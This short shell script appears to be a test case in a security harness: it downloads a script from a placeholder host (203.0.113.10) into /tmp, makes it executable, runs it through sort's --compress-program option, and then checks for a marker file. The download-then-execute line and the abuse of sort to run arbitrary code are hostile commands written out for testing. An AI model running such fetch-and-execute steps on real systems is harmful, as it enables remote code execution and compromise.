#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/payload.sh >/tmp/zs && echo 'exec cat' >>/tmp/zs && chmod 755 /tmp/zs
seq 1 2000 | shuf | sort -S 1k --compress-program=/tmp/zs >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
